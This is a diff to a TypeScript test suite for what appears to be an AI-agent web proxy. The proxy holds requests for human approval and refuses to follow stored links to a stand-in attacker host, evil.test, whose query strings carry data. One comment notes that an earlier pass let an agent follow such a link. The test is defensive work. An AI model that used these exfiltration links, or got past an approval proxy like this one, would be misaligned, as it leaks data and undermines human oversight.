@@ -195,11 +195,22 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   t.equal((await posting).status, 200, 'the human approves the POST');
   t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
   t.equal((await viaCurl(moverProxy, 'GET', `${web.origin('evil.test')}/c?d=approved-4242`)).status, 403, 'a link stored by an approved POST is not followed');
+  // Another agent whose session is live before the link is stored (fourteenth pass: it followed it).
+  const bystander = await airlock.agents.add('bystander');
+  const byProxy = airlock.proxyUrl('bystander', bystander.token);
+  t.equal((await viaCurl(byProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
   const shortener = await airlock.agents.add('shortener');
   const shortProxy = airlock.proxyUrl('shortener', shortener.token);
-  t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=short-4242`)}`)).status, 200);
+  // Fourteenth pass: a GET carrying a URL of another site waits for a human (the host may fetch or
+  // store it: host.fetches_url); what an approved one stored is still no followable link.
+  const storing = viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=short-4242`)}`);
+  const [heldGet] = (await eventuallyPending(api)) as Array<{ id: string; rule?: string }>;
+  t.equal((await api('POST', `/api/approvals/${heldGet!.id}/approve`, {})).status, 200);
+  t.equal((await storing).status, 200, 'the human approves the GET that carries a URL');
   t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
   t.equal((await viaCurl(shortProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor one a GET stored');
+  t.equal((await viaCurl(byProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
+  t.equal((await viaCurl(byProxy, 'GET', `${web.origin('evil.test')}/c?d=short-4242`)).status, 403, 'nor by another agent, its session live before the link was stored');
   // What one session stored is still there in the agent's next (a human's reset, the next run): its
   // first request brings the `wrote:` labels of the agent's other sessions.
   const shortSession = ((await api('GET', '/api/sessions')).body.sessions as Array<{ id: string; agent: string }>).find((x) => x.agent === 'shortener')!;
@@ -209,7 +220,10 @@ t.test('through the real proxy: served spellings fetch, changed ones are refused
   // The host holds it once the request arrives: a store whose answer the agent does not wait for.
   const quitter = await airlock.agents.add('quitter');
   const quitProxy = airlock.proxyUrl('quitter', quitter.token);
-  await run('curl', ['-sS', '--max-time', '0.5', '-x', quitProxy, `${web.origin('notes.test')}/paste-hang?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=quit-4242`)}`]).catch(() => undefined);
+  const quitting = run('curl', ['-sS', '--max-time', '1', '-x', quitProxy, `${web.origin('notes.test')}/paste-hang?set=${encodeURIComponent(`${web.origin('evil.test')}/c?d=quit-4242`)}`]).catch(() => undefined);
+  const [heldQuit] = (await eventuallyPending(api)) as Array<{ id: string }>;
+  await api('POST', `/api/approvals/${heldQuit!.id}/approve`, {});
+  await quitting;
   t.equal((await viaCurl(quitProxy, 'GET', `${web.origin('notes.test')}/paste`)).status, 200);
   t.equal((await viaCurl(quitProxy, 'GET', `${web.origin('evil.test')}/c?d=quit-4242`)).status, 403, 'nor one stored by a request never answered');
   t.notOk(web.hits.some((h) => h.host === 'evil.test'), 'evil.test was never reached');
